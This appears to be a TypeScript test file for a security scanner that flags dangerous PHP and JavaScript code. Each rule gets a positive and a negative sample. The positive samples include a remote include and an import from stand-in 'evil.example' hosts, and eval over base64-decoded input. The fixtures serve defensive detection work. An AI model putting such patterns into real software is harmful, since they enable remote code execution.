import { CODE_RULES, MINIFIED_RULE_ID, scanCode } from './code-rules';
import type { TextFile } from './review-findings';

const file = (path: string, text: string): TextFile => ({ path, text, lines: text.split('\n') });
const scan = (path: string, text: string, justifications?: Record<string, string>) =>
  scanCode([file(path, text)], { maxLineChars: 200, justifications });

/** One positive and one negative sample per rule (every rule of code-rules.ts must be here). */
const SAMPLES: Record<string, { path: string; positive: string; negative: string }> = {
  'code.php.eval': { path: 'a.php', positive: '<?php eval($code);', negative: '<?php $this->evaluate($code); // no eval here' },
  'code.php.assert-string': {
    path: 'a.php',
    positive: "<?php assert('$x > 1');",
    negative: '<?php assert($x > 1 === true || true);'.replace('$x', '1'),
  },
  'code.php.shell': {
    path: 'a.php',
    positive: '<?php $out = shell_exec("convert " . $f);',
    negative: '<?php $pdo->exec("DELETE FROM t"); $fs->filesystem("x");',
  },
  'code.php.remote-include': {
    path: 'a.php',
    positive: "<?php include 'http://evil.example/payload.php';",
    negative: "<?php include __DIR__ . '/views/page.php';",
  },
  'code.php.decode-eval': {
    path: 'a.php',
    positive: "<?php eval(gzinflate(base64_decode('abc')));",
    negative: '<?php $data = json_decode(base64_decode($payload), true);',
  },
  'code.js.eval': { path: 'a.js', positive: 'const f = new Function("a", body);', negative: 'const v = model.eval_score(x); // evaluate' },
  'code.js.shell': {
    path: 'a.js',
    positive: "const { exec } = require('child_process');",
    negative: "const { readFile } = require('fs');",
  },
  'code.js.remote-import': {
    path: 'a.mjs',
    positive: "import lib from 'https://cdn.evil.example/lib.js';",
    negative: "import lib from './lib.js';",
  },
  'code.js.decode-eval': {
    path: 'a.js',
    positive: "eval(atob('YWxlcnQoMSk='));",
    negative: 'const text = atob(encoded); render(text);',
  },
};

describe('dangerous-code rules (code-rules.ts): a positive and a negative sample each', () => {
  it('every rule has samples', () => {
    expect(Object.keys(SAMPLES).sort()).toEqual(CODE_RULES.map((r) => r.id).sort());
  });

  it.each(CODE_RULES.map((r) => [r.id]))('%s: the positive sample is found (file, line, snippet)', (id) => {
    const s = SAMPLES[id]!;
    const found = scan(s.path, `// header\n${s.positive}\n// footer`);
    expect(found.map((f) => f.ruleId)).toEqual([id]);
    expect(found[0]).toMatchObject({ file: s.path, line: 2, severity: 'blocking', snippetStartLine: 1 });
    expect(found[0]!.snippet).toContain(s.positive.slice(0, 20));
  });

  it.each(CODE_RULES.map((r) => [r.id]))('%s: the negative sample is not', (id) => {
    const s = SAMPLES[id]!;
    expect(scan(s.path, s.negative).filter((f) => f.ruleId === id)).toEqual([]);
  });

  it(`${MINIFIED_RULE_ID}: a line over the limit is a blob, a readable file is not`, () => {
    expect(scan('dist/app.js', `var a=1;${'b=a+1;'.repeat(60)}`).map((f) => f.ruleId)).toEqual([MINIFIED_RULE_ID]);
    expect(scan('dist/app.js', 'var a = 1;\n'.repeat(500))).toEqual([]);
  });

  it('only PHP and JavaScript files are scanned', () => {
    expect(scan('README.md', 'Never call eval($x) or shell_exec().')).toEqual([]);
  });

  it("a manifest justification is attached to the rule's findings", () => {
    const [f] = scan('src/Thumbs.php', '<?php exec("convert in.png out.png");', { 'code.php.shell': 'Thumbnails need ImageMagick.' });
    expect(f).toMatchObject({ ruleId: 'code.php.shell', justification: 'Thumbnails need ImageMagick.', justificationSource: 'manifest' });
  });
});
